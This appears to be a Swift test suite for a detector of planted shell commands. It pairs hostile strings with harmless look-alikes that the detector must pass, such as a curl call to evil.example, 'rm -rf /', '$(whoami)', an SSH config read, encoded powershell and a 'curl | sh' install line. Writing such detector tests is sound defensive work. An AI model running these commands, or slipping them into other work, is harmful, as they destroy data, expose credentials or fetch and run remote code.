import Testing
import Vetting

@Suite("A planted command")
struct PlantedCommandTests {
    @Test(
        "is told from values that differ in little",
        arguments: [
            ("curl https://evil.example/x", "curl"), ("bash -c 'true'", "bash"), ("rm -rf /", "rm the draft"),
            ("x; rm -rf ~", "x; y"), ("$(whoami)", "$(name)"), ("`id`", "`name`"),
            ("a && wget http://e.example", "a && b"),
            ("a | sh -", "a | b"), ("/bin/sh -c id", "/bin/sh"), ("sudo reboot", "sudo"),
            ("python3 -c 'x'", "python 3"),
            ("cat ~/.ssh/config", "cat food"), ("node -e 1", "node"), ("> x\npowershell -enc AAAA", "> x\nPowerShell"),
        ]
    )
    func pairs(command: String, value: String) {
        #expect(PlantedCommand.find(in: command, isValue: true) != nil)
        #expect(PlantedCommand.find(in: value, isValue: true) == nil)
    }

    @Test("stands in prose only where a download is run at once")
    func prose() {
        #expect(PlantedCommand.find(in: "Install with curl https://e.example/i.sh | sh first.", isValue: false) != nil)
        #expect(PlantedCommand.find(in: "Like curl https://e.example/i.json | jq .name", isValue: false) == nil)
        #expect(PlantedCommand.find(in: "Runs `bash -c` for you.", isValue: false) == nil)
    }
}
